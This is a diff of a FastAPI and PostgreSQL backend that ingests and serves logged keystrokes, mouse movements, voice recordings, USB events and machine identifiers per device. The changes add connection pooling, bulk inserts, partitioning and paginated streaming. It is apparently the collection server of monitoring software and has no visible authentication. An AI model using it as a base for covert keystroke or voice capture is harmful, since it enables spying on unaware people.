@@ -1,13 +1,19 @@
 import os
-from fastapi import FastAPI, HTTPException
+import asyncio
+import threading
+from contextlib import ExitStack, contextmanager
+from fastapi import FastAPI, HTTPException, Query
+from fastapi.responses import StreamingResponse
 from pydantic import BaseModel
 from typing import List, Optional
-import psycopg2
 from psycopg2.extras import RealDictCursor
 from datetime import datetime
 import logging
 from dotenv import load_dotenv
 from fastapi.middleware.cors import CORSMiddleware
+from db_pool import DBPool, PoolExhausted, bulk_insert
+from partitions import PARTITIONED_TABLES, PartitionManager
+from paging import STREAM_ITERSIZE, encode_cursor, events_query, ndjson_chunks
 
 load_dotenv()
 
@@ -39,13 +45,84 @@ logging.basicConfig(
 )
 logger = logging.getLogger(__name__)
 
+# Connection pool sizing and per-statement limits
+DB_POOL_MIN = int(os.getenv("DB_POOL_MIN", "1"))
+DB_POOL_MAX = int(os.getenv("DB_POOL_MAX", "10"))
+DB_POOL_TIMEOUT = float(os.getenv("DB_POOL_TIMEOUT", "5"))  # seconds to wait for a free connection
+DB_STATEMENT_TIMEOUT_MS = int(os.getenv("DB_STATEMENT_TIMEOUT_MS", "30000"))
+DB_HEALTH_CHECK_INTERVAL = float(os.getenv("DB_HEALTH_CHECK_INTERVAL", "30"))
+
+db_pool = None
+db_pool_lock = threading.Lock()
+
+def get_db_pool():
+    # built on first use, so the API still starts (and reports unhealthy) while the database is down
+    global db_pool
+    if db_pool is None:
+        with db_pool_lock:
+            if db_pool is None:
+                db_pool = DBPool(
+                    DB_CONFIG,
+                    minconn=DB_POOL_MIN,
+                    maxconn=DB_POOL_MAX,
+                    statement_timeout=DB_STATEMENT_TIMEOUT_MS,
+                    timeout=DB_POOL_TIMEOUT,
+                    health_check_interval=DB_HEALTH_CHECK_INTERVAL,
+                )
+    return db_pool
+
+@contextmanager
 def get_db_connection():
-    try:
-        conn = psycopg2.connect(**DB_CONFIG, cursor_factory=RealDictCursor)
-        return conn
-    except Exception as e:
-        logger.error(f"Database connection failed: {e}")
-        raise HTTPException(status_code=500, detail="Database connection failed")
+    """Pooled connection for the duration of the block, returned (not closed) afterwards."""
+    with ExitStack() as stack:
+        try:
+            conn = stack.enter_context(get_db_pool().connection())
+        except PoolExhausted as e:
+            logger.error(f"Database pool exhausted: {e}")
+            raise HTTPException(status_code=503, detail="Database busy, retry later")
+        except Exception as e:
+            logger.error(f"Database connection failed: {e}")
+            raise HTTPException(status_code=500, detail="Database connection failed")
+        yield conn
+
+# Mouse/keystroke tables are range-partitioned on event_time (see db_schema.sql);
+# partitions are created ahead of time and on demand, and retention drops whole ones.
+# Tables from before partitioning are left as they are (with a warning at startup)
+# until migrate_partitions.py has converted them.
+PARTITION_INTERVAL = os.getenv("PARTITION_INTERVAL", "daily")  # or "weekly"
+PARTITION_RETENTION_DAYS = int(os.getenv("PARTITION_RETENTION_DAYS", "0"))  # 0 keeps everything
+PARTITION_MAINTENANCE_INTERVAL = float(os.getenv("PARTITION_MAINTENANCE_INTERVAL", "3600"))
+
+partitions = PartitionManager(
+    PARTITIONED_TABLES,
+    interval=PARTITION_INTERVAL,
+    retention_days=PARTITION_RETENTION_DAYS,
+)
+
+def maintain_partitions():
+    with get_db_connection() as conn:
+        partitions.maintain(conn)
+
+async def partition_maintenance_loop():
+    while True:
+        try:
+            await asyncio.to_thread(maintain_partitions)
+        except Exception as e:
+            logger.error(f"Partition maintenance failed: {e}")
+        await asyncio.sleep(PARTITION_MAINTENANCE_INTERVAL)
+
+background_tasks = []
+
+@app.on_event("startup")
+async def start_partition_maintenance():
+    background_tasks.append(asyncio.create_task(partition_maintenance_loop()))
+
+@app.on_event("shutdown")
+def close_db_pool():
+    for task in background_tasks:
+        task.cancel()
+    if db_pool is not None:
+        db_pool.close()
 
 # Data Models
 class MouseEvent(BaseModel):
@@ -95,220 +172,199 @@ class VoiceEvent(BaseModel):
 
 # API Endpoints
 @app.post("/mouse-events/")
-async def log_mouse_event(events: List[MouseEvent]):
-    conn = get_db_connection()
-    try:
-        with conn.cursor() as cur:
-            for event in events:
-                cur.execute(
-                    """
-                    INSERT INTO mouse_events 
-                    (event_time, event_type, x, y, interval, device_fingerprint)
-                    VALUES (%s, %s, %s, %s, %s, %s)
-                    """,
-                    (event.event_time, event.event_type, event.x, event.y, 
-                     event.interval, event.device_fingerprint)
+def log_mouse_event(events: List[MouseEvent]):
+    with get_db_connection() as conn:
+        try:
+            partitions.ensure(conn, "mouse_events", [event.event_time for event in events])
+            with conn.cursor() as cur:
+                count = bulk_insert(
+                    cur, "mouse_events",
+                    ("event_time", "event_type", "x", "y", "interval", "device_fingerprint"),
+                    [(event.event_time, event.event_type, event.x, event.y,
+                      event.interval, event.device_fingerprint) for event in events]
                 )
-            conn.commit()
-            return {"status": "success", "count": len(events)}
-    except Exception as e:
-        conn.rollback()
-        logger.error(f"Error inserting mouse events: {e}")
-        raise HTTPException(status_code=500, detail=str(e))
-    finally:
-        conn.close()
+                conn.commit()
+                return {"status": "success", "count": count}
+        except Exception as e:
+            conn.rollback()
+            logger.error(f"Error inserting mouse events: {e}")
+            raise HTTPException(status_code=500, detail=str(e))
 
 @app.post("/keystroke-events/")
-async def log_keystroke_event(events: List[KeystrokeEvent]):
-    conn = get_db_connection()
-    try:
-        with conn.cursor() as cur:
-            for event in events:
+def log_keystroke_event(events: List[KeystrokeEvent]):
+    with get_db_connection() as conn:
+        try:
+            partitions.ensure(conn, "keystroke_events", [event.event_time for event in events])
+            with conn.cursor() as cur:
+                count = bulk_insert(
+                    cur, "keystroke_events",
+                    ("event_time", "key_pressed", "interval", "device_fingerprint"),
+                    [(event.event_time, event.key_pressed,
+                      event.interval, event.device_fingerprint) for event in events]
+                )
+                conn.commit()
+                return {"status": "success", "count": count}
+        except Exception as e:
+            conn.rollback()
+            logger.error(f"Error inserting keystroke events: {e}")
+            raise HTTPException(status_code=500, detail=str(e))
+
+@app.post("/system-info/")
+def log_system_info(info: SystemInfo):
+    with get_db_connection() as conn:
+        try:
+            with conn.cursor() as cur:
                 cur.execute(
                     """
-                    INSERT INTO keystroke_events 
-                    (event_time, key_pressed, interval, device_fingerprint)
-                    VALUES (%s, %s, %s, %s)
+                    INSERT INTO system_info 
+                    (recorded_time, mac_address, cpu_info, disk_info, memory_info, 
+                     hostname, os_info, device_fingerprint)
+                    VALUES (%s, %s, %s, %s, %s, %s, %s, %s)
+                    RETURNING id
                     """,
-                    (event.event_time, event.key_pressed, 
-                     event.interval, event.device_fingerprint)
+                    (info.recorded_time, info.mac_address, info.cpu_info,
+                     info.disk_info, info.memory_info, info.hostname,
+                     info.os_info, info.device_fingerprint)
                 )
-            conn.commit()
-            return {"status": "success", "count": len(events)}
-    except Exception as e:
-        conn.rollback()
-        logger.error(f"Error inserting keystroke events: {e}")
-        raise HTTPException(status_code=500, detail=str(e))
-    finally:
-        conn.close()
-
-@app.post("/system-info/")
-async def log_system_info(info: SystemInfo):
-    conn = get_db_connection()
-    try:
-        with conn.cursor() as cur:
-            cur.execute(
-                """
-                INSERT INTO system_info 
-                (recorded_time, mac_address, cpu_info, disk_info, memory_info, 
-                 hostname, os_info, device_fingerprint)
-                VALUES (%s, %s, %s, %s, %s, %s, %s, %s)
-                RETURNING id
-                """,
-                (info.recorded_time, info.mac_address, info.cpu_info,
-                 info.disk_info, info.memory_info, info.hostname,
-                 info.os_info, info.device_fingerprint)
-            )
-            info_id = cur.fetchone()['id']
-            conn.commit()
-            return {"id": info_id, "status": "success"}
-    except Exception as e:
-        conn.rollback()
-        logger.error(f"Error inserting system info: {e}")
-        raise HTTPException(status_code=500, detail=str(e))
-    finally:
-        conn.close()
+                info_id = cur.fetchone()['id']
+                conn.commit()
+                return {"id": info_id, "status": "success"}
+        except Exception as e:
+            conn.rollback()
+            logger.error(f"Error inserting system info: {e}")
+            raise HTTPException(status_code=500, detail=str(e))
 
 @app.post("/usb-events/")
-async def log_usb_events(request: USBEventsRequest) -> dict:
-    conn = get_db_connection()
-    try:
-        with conn.cursor(cursor_factory=RealDictCursor) as cur:
-            values = [
-                (
-                    event.event_time, event.action, event.vendor_id,
-                    event.product_id, event.vendor_name, event.product_name,
-                    event.serial_number, event.device_fingerprint
-                ) for event in request.events
-            ]
-
-            insert_query = """
-                INSERT INTO usb_events 
-                (event_time, action, vendor_id, product_id, vendor_name,
-                 product_name, serial_number, device_fingerprint)
-                VALUES %s
-                RETURNING id
-            """
-
-            # Use psycopg2.extras.execute_values for efficient bulk insert
-            from psycopg2.extras import execute_values
-            execute_values(cur, insert_query, values)
-            inserted_ids = [row["id"] for row in cur.fetchall()]
-            conn.commit()
-            return {"inserted_ids": inserted_ids, "status": "success"}
-    except Exception as e:
-        conn.rollback()
-        logger.error(f"Error inserting USB events: {e}")
-        raise HTTPException(status_code=500, detail="Failed to log USB events.")
-    finally:
-        conn.close()
-
-from typing import List
+def log_usb_events(request: USBEventsRequest) -> dict:
+    with get_db_connection() as conn:
+        try:
+            with conn.cursor() as cur:
+                values = [
+                    (
+                        event.event_time, event.action, event.vendor_id,
+                        event.product_id, event.vendor_name, event.product_name,
+                        event.serial_number, event.device_fingerprint
+                    ) for event in request.events
+                ]
+                count = bulk_insert(
+                    cur, "usb_events",
+                    ("event_time", "action", "vendor_id", "product_id", "vendor_name",
+                     "product_name", "serial_number", "device_fingerprint"),
+                    values
+                )
+                conn.commit()
+                return {"status": "success", "count": count}
+        except Exception as e:
+            conn.rollback()
+            logger.error(f"Error inserting USB events: {e}")
+            raise HTTPException(status_code=500, detail="Failed to log USB events.")
 
 @app.post("/voice-events/")
-async def log_voice_events(events: List[VoiceEvent]):
-    conn = get_db_connection()
-    try:
-        with conn.cursor() as cur:
-            inserted_ids = []
-            for event in events:
-                cur.execute(
-                    """
-                    INSERT INTO voice_events 
-                    (event_time, event_type, file_path, duration, sample_rate, device_fingerprint)
-                    VALUES (%s, %s, %s, %s, %s, %s)
-                    RETURNING id
-                    """,
-                    (event.event_time, event.event_type, event.file_path,
-                     event.duration, event.sample_rate, event.device_fingerprint)
+def log_voice_events(events: List[VoiceEvent]):
+    with get_db_connection() as conn:
+        try:
+            with conn.cursor() as cur:
+                count = bulk_insert(
+                    cur, "voice_events",
+                    ("event_time", "event_type", "file_path", "duration", "sample_rate", "device_fingerprint"),
+                    [(event.event_time, event.event_type, event.file_path,
+                      event.duration, event.sample_rate, event.device_fingerprint) for event in events]
                 )
-                event_id = cur.fetchone()['id']
-                inserted_ids.append(event_id)
-            conn.commit()
-            return {"status": "success", "inserted_ids": inserted_ids, "count": len(inserted_ids)}
-    except Exception as e:
-        conn.rollback()
-        logger.error(f"Error inserting voice events: {e}")
-        raise HTTPException(status_code=500, detail=str(e))
-    finally:
-        conn.close()
+                conn.commit()
+                return {"status": "success", "count": count}
+        except Exception as e:
+            conn.rollback()
+            logger.error(f"Error inserting voice events: {e}")
+            raise HTTPException(status_code=500, detail=str(e))
 
 
 @app.get("/health/")
-async def health_check():
+def health_check():
     try:
-        conn = get_db_connection()
-        conn.close()
-        return {"status": "healthy", "database": "connected"}
+        with get_db_connection() as conn:
+            with conn.cursor() as cur:
+                cur.execute("SELECT 1")
+        return {"status": "healthy", "database": "connected", "pool": db_pool.stats(),
+                "partitions": partitions.stats()}
     except Exception as e:
-        return {"status": "unhealthy", "database": "disconnected", "error": str(e)}
+        error = e.detail if isinstance(e, HTTPException) else str(e)
+        pool = db_pool.stats() if db_pool is not None else None
+        return {"status": "unhealthy", "database": "disconnected", "error": error, "pool": pool}
 
-@app.get("/mouse-events/")
-async def get_mouse_events():
-    conn = get_db_connection()
+# Event listings: newest first, one page per call. Pass the returned next_cursor
+# back as ?cursor= for the next page; it is null on the last one. format=ndjson
+# streams every matching row from a server-side cursor instead.
+EVENTS_PAGE_SIZE = int(os.getenv("EVENTS_PAGE_SIZE", "1000"))
+EVENTS_MAX_PAGE_SIZE = 10000
+
+def stream_events(stack, conn, query, params):
     try:
-        with conn.cursor(cursor_factory=RealDictCursor) as cur:
-            cur.execute("SELECT * FROM mouse_events ORDER BY event_time DESC")
-            results = cur.fetchall()
-            return {"mouse_events": results}
-    except Exception as e:
-        logger.error(f"Error fetching mouse events: {e}")
-        raise HTTPException(status_code=500, detail="Failed to fetch mouse events.")
+        # named cursor: rows stay on the server and arrive STREAM_ITERSIZE at a time
+        with conn.cursor(name="events_stream", cursor_factory=RealDictCursor) as cur:
+            cur.itersize = STREAM_ITERSIZE
+            cur.execute(query, params)
+            yield from ndjson_chunks(cur)
     finally:
-        conn.close()
+        stack.close()
 
-@app.get("/keystroke-events/")
-async def get_keystroke_events():
-    conn = get_db_connection()
+def list_events(key, table, time_column, label, device_fingerprint, since, until, cursor, limit, fmt):
     try:
-        with conn.cursor(cursor_factory=RealDictCursor) as cur:
-            cur.execute("SELECT * FROM keystroke_events ORDER BY event_time DESC")
-            results = cur.fetchall()
-            return {"keystroke_events": results}
-    except Exception as e:
-        logger.error(f"Error fetching keystroke events: {e}")
-        raise HTTPException(status_code=500, detail="Failed to fetch keystroke events.")
-    finally:
-        conn.close()
+        query, params = events_query(
+            table, time_column, device_fingerprint, since, until, cursor,
+            limit if fmt == "ndjson" else (limit or EVENTS_PAGE_SIZE) + 1,
+        )
+    except ValueError as e:
+        raise HTTPException(status_code=400, detail=str(e))
+    if fmt == "ndjson":
+        stack = ExitStack()
+        conn = stack.enter_context(get_db_connection())
+        return StreamingResponse(stream_events(stack, conn, query, params), media_type="application/x-ndjson")
+    limit = limit or EVENTS_PAGE_SIZE
+    with get_db_connection() as conn:
+        try:
+            with conn.cursor(cursor_factory=RealDictCursor) as cur:
+                cur.execute(query, params)
+                results = cur.fetchall()
+        except Exception as e:
+            logger.error(f"Error fetching {label}: {e}")
+            raise HTTPException(status_code=500, detail=f"Failed to fetch {label}.")
+    next_cursor = None
+    if len(results) > limit:
+        results = results[:limit]
+        next_cursor = encode_cursor(results[-1][time_column], results[-1]["id"])
+    return {key: results, "next_cursor": next_cursor}
+
+@app.get("/mouse-events/")
+def get_mouse_events(device_fingerprint: Optional[str] = None, since: Optional[datetime] = None, until: Optional[datetime] = None,
+                     cursor: Optional[str] = None, limit: Optional[int] = Query(None, ge=1, le=EVENTS_MAX_PAGE_SIZE),
+                     fmt: str = Query("json", alias="format", pattern="^(json|ndjson)$")):
+    return list_events("mouse_events", "mouse_events", "event_time", "mouse events",
+                       device_fingerprint, since, until, cursor, limit, fmt)
+
+@app.get("/keystroke-events/")
+def get_keystroke_events(device_fingerprint: Optional[str] = None, since: Optional[datetime] = None, until: Optional[datetime] = None,
+                         cursor: Optional[str] = None, limit: Optional[int] = Query(None, ge=1, le=EVENTS_MAX_PAGE_SIZE),
+                         fmt: str = Query("json", alias="format", pattern="^(json|ndjson)$")):
+    return list_events("keystroke_events", "keystroke_events", "event_time", "keystroke events",
+                       device_fingerprint, since, until, cursor, limit, fmt)
 
 @app.get("/system-info/")
-async def get_system_info():
-    conn = get_db_connection()
-    try:
-        with conn.cursor(cursor_factory=RealDictCursor) as cur:
-            cur.execute("SELECT * FROM system_info ORDER BY recorded_time DESC")
-            results = cur.fetchall()
-            return {"system_info": results}
-    except Exception as e:
-        logger.error(f"Error fetching system info: {e}")
-        raise HTTPException(status_code=500, detail="Failed to fetch system info.")
-    finally:
-        conn.close()
+def get_system_info(device_fingerprint: Optional[str] = None, since: Optional[datetime] = None, until: Optional[datetime] = None,
+                    cursor: Optional[str] = None, limit: Optional[int] = Query(None, ge=1, le=EVENTS_MAX_PAGE_SIZE),
+                    fmt: str = Query("json", alias="format", pattern="^(json|ndjson)$")):
+    return list_events("system_info", "system_info", "recorded_time", "system info",
+                       device_fingerprint, since, until, cursor, limit, fmt)
 
 @app.get("/usb-events/")
-async def get_usb_events():
-    conn = get_db_connection()
-    try:
-        with conn.cursor(cursor_factory=RealDictCursor) as cur:
-            cur.execute("SELECT * FROM usb_events ORDER BY event_time DESC")
-            results = cur.fetchall()
-            return {"usb_events": results}
-    except Exception as e:
-        logger.error(f"Error fetching USB events: {e}")
-        raise HTTPException(status_code=500, detail="Failed to fetch USB events.")
-    finally:
-        conn.close()
+def get_usb_events(device_fingerprint: Optional[str] = None, since: Optional[datetime] = None, until: Optional[datetime] = None,
+                   cursor: Optional[str] = None, limit: Optional[int] = Query(None, ge=1, le=EVENTS_MAX_PAGE_SIZE),
+                   fmt: str = Query("json", alias="format", pattern="^(json|ndjson)$")):
+    return list_events("usb_events", "usb_events", "event_time", "USB events",
+                       device_fingerprint, since, until, cursor, limit, fmt)
 
 @app.get("/voice-events/")
-async def get_voice_events():
-    conn = get_db_connection()
-    try:
-        with conn.cursor(cursor_factory=RealDictCursor) as cur:
-            cur.execute("SELECT * FROM voice_events ORDER BY event_time DESC")
-            results = cur.fetchall()
-            return {"voice_events": results}
-    except Exception as e:
-        logger.error(f"Error fetching voice events: {e}")
-        raise HTTPException(status_code=500, detail="Failed to fetch voice events.")
-    finally:
-        conn.close()
\ No newline at end of file
+def get_voice_events(device_fingerprint: Optional[str] = None, since: Optional[datetime] = None, until: Optional[datetime] = None,
+                     cursor: Optional[str] = None, limit: Optional[int] = Query(None, ge=1, le=EVENTS_MAX_PAGE_SIZE),
+                     fmt: str = Query("json", alias="format", pattern="^(json|ndjson)$")):
+    return list_events("voice_events", "voice_events", "event_time", "voice events",
+                       device_fingerprint, since, until, cursor, limit, fmt)